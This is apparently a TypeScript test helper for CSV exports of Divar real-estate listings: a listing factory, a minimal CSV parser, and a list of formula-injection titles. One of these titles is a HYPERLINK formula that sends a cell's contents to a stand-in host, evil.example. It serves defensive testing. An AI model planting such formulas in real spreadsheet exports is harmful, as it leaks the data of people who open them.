import type { Listing } from '@/lib/divar/listing/types';

/** A listing with the fields the export tests read; `patch` overrides any of them. */
export function makeListing(patch: Partial<Listing> = {}): Listing {
  return {
    token: 'gammaxvi',
    url: 'https://divar.ir/v/gammaxvi',
    source: 'card',
    title: 'ویلا ۲۰۰ متری در لواسان',
    category: 'house-villa-sell',
    city: 'تهران',
    district: 'لواسان',
    price: 12_500_000_000,
    pricePerSquareMetre: 62_500_000,
    size: 200,
    rooms: 3,
    floor: -1,
    yearBuilt: 1398,
    hasElevator: false,
    hasParking: true,
    imageCount: 4,
    imageUrls: ['https://s100.divarcdn.com/a.jpg'],
    publishedAt: '2026-11-20T08:30:00.000Z',
    tags: ['نردبان شده', 'فوری'],
    facts: {},
    unknownWidgets: [],
    ...patch,
  };
}

/** Texts a spreadsheet would run as a formula, each as a listing title. */
export const FORMULA_TITLES = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+98 912 000 0000',
  '-2+3',
  '@SUM(A1:A9)',
  '\tcmd',
  '\r=1+1',
];

/**
 * A minimal RFC 4180 parser (quoted fields, doubled quotes, CRLF records) to read exports back;
 * `separator` reads them as a spreadsheet set to split on `;` or tab would.
 */
export function parseCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === separator) {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}
